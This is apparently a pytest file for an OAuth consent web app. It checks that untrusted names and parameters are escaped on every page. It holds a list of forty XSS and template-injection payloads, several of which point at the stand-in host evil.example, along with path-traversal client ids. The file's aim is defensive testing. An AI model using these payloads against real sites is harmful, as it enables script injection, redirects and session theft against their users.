"""Mallory chooses a text that Alice's browser is sent, and wants it to be read as HTML or as a script.

She has the name of a client, what an agent or a resource says, a login, an address.
"""

from html.parser import HTMLParser

import httpx2
import pytest

from deputize.core.ports import Add
from deputize.core.values import Instant, Subject
from deputize.oauth import asking
from deputize.oauth.authority import Authority
from deputize.oauth.client import Client, Resource
from deputize.server import views
from tests.support.pages import PHARMACY, World, send, sign_in

# CO-04: forty ways that have worked on somebody.
PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "</title><script>alert(1)</script>",
    "</h1><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mi//xlink:href='javascript:alert(1)'>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<form action=//evil.example><button>Allow",
    "<input name=answer value=allow>",
    "<button name=answer value=allow>Deny</button>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<a href='javascript:alert(1)'>read on</a>",
    "<div hx-get='//evil.example' hx-trigger='load'>",
    "<div hx-on:load='alert(1)'>",
    "<div data-hx-get='/sign-out' data-hx-trigger='load'>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)",
    '"><script>alert(1)</script>',
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "{{ 7 * 7 }}{% raw %}{{ self.__init__.__globals__ }}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\x3c/script\\x3e",
    "<\x00script>alert(1)</\tscript>",
    "\u202e>tpircs<\u202c\u2066<b>\u2069\u200b",
)
PLAIN = "plain"


class _Shape(HTMLParser):
    """A page without its texts: which tags, with which attributes; and the texts by themselves."""

    def __init__(self, page: httpx2.Response) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, tuple[str, ...]]] = []
        self.texts = ""
        self.values: list[str] = []
        self.feed(page.text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, tuple(name for name, _ in attrs)))
        self.values += [value or "" for _, value in attrs]

    def handle_endtag(self, tag: str) -> None:
        self.tags.append((f"/{tag}", ()))

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")

    def handle_data(self, data: str) -> None:
        self.texts += data


async def _pages(text: str) -> list[httpx2.Response]:
    """All pages on which the text can come to stand."""
    typed = text.replace("\0", "")  # no form brings one: the strict reader has refused it
    world = await World().with_people()
    await world.env.store.commit(
        Add(Client(key="a-bot", name=text, auth_method="", grant_types=frozenset(), how_known=text)),
        Add(Resource(key=f"{PHARMACY}/2", name=text, scopes={"read": text})),
    )
    browser = await world.signed_in()
    until = Instant(world.fixed.now + 86400)
    wanted = Authority(audience=frozenset({f"{PHARMACY}/2"}), scope=frozenset({"read"}), until=until)
    reading = await world.asked(by="a-bot", wanted=wanted, words=text, reason=text, remember=True)
    told = [await browser.get("/inbox"), await browser.get(f"/asks/{reading.page}")]
    told.append(await send(browser, f"/asks/{reading.page}", answer=typed))
    await asking.answer(reading, by=Subject("alice"), allow=True, env=world.env, via=text)
    waiting = await world.asked(by="a-bot", words=text)
    told += [await browser.get(path) for path in ("/inbox", "/inbox/waiting", "/agents", f"/asks/{reading.page}")]
    told += [await browser.get(f"/asks/{waiting.page}/live", params={"seen": text})]
    told += [await browser.get("/inbox/waiting", params={"seen": text})]
    stopped = await send(browser, "/agents/a-bot/take-back", shown_at="/agents")
    assert stopped.status_code == 303
    told += [await browser.get("/agents"), await send(browser, f"/asks/{waiting.page}", answer="allow")]
    told += [await world.browser().get("/sign-in", params={"next": text}), await sign_in(world.browser(), typed, typed)]
    told += [await browser.get(f"/{httpx2.QueryParams({'': text})}"), await browser.get("/asks/x", params={"x": text})]
    return told


@pytest.mark.parametrize("payload", PAYLOADS)
async def test_co_04_a_foreign_text_is_a_text_and_nothing_else(payload: str) -> None:
    seen = 0
    for told, plain in zip(await _pages(payload), await _pages(PLAIN), strict=True):
        assert told.status_code == plain.status_code
        shape, expected = _Shape(told), _Shape(plain)
        assert shape.tags == expected.tags, told.url
        said = {views.shown(payload), views.shown(payload.replace("\0", ""))}
        places = expected.texts.count(PLAIN) + expected.values.count(PLAIN)
        seen += places
        assert any(one in shape.texts or one in shape.values for one in said) or not places
        assert not set("\x00\u202e\u202c\u2066\u2069\u200b") & set(shape.texts + "".join(shape.values))
    assert seen > 20  # they were there to be seen


def test_the_corpus_has_forty() -> None:
    assert len(set(PAYLOADS)) == 40


async def test_a_name_that_is_a_path_stays_within_its_button() -> None:
    """A client's id stands in the address of its buttons."""
    world = await World().with_people()
    browser = await world.signed_in()
    for name in ('x" onclick="alert(1)', "../../sign-out?", "a/welcome#", "//evil.example", "é %2e%2e/"):
        ask = await world.asked(by=name)
        await asking.answer(ask, by=Subject("alice"), allow=True, env=world.env, via="test")
    actions = [value for value in _Shape(await browser.get("/agents")).values if value.endswith("/take-back")]
    assert len(actions) == 5
    for action in actions:
        assert action.count("/") == 3
        assert not set(action) & set(" \"'<>?#")
